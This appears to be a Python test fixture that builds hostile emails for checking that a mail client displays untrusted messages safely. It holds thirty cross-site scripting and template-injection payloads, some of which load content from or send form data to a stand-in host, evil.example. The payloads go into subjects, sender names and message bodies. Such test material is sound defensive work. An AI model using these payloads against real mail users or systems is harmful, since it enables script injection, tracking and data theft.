"""Mail that attacks whoever shows it: thirty payloads, and letters that are full of them."""

from __future__ import annotations

from base64 import b64encode

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</desc></svg><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "\"><script>alert(1)</script>",
    "'-alert(1)-'",
    "{{ 7 * 7 }}{% for x in () %}{% endfor %}{{ config }}",
    "${alert(1)}`${alert(1)}`",
    "javascript:alert(1)//",
    "\u202e\u2066<script\u0000>alert(1)</script\u200b>\u2028\x1b[31m&lt;b&gt;",
)  # fmt: skip


def letter(number: int, payload: str, *, to: str) -> bytes:
    """A message with the payload as its subject, its sender's name, its text and its HTML."""
    word = f"=?utf-8?b?{_packed(payload)}?="
    parts = "".join(
        f"--x\r\nContent-Type: text/{kind}; charset=utf-8\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{_packed(text)}\r\n"
        for kind, text in (
            ("plain", f"Hi Sam,\n\nwhen could you come? {payload}\n\n{payload}\n"),
            ("html", f"<p>Hi Sam, when could you come? {payload}</p>"),
        )
    )
    return (
        f"From: {word} <a{number}@evil{number}.example>\r\nTo: {to}\r\nSubject: {word}\r\n"
        f"Date: Mon, 11 May 2026 10:00:00 -0400\r\nMessage-ID: <{number}@evil{number}.example>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="x"\r\n\r\n'
        f"{parts}--x--\r\n"
    ).encode("ascii")


def _packed(text: str) -> str:
    return b64encode(text.encode("utf-8", "replace")).decode("ascii")
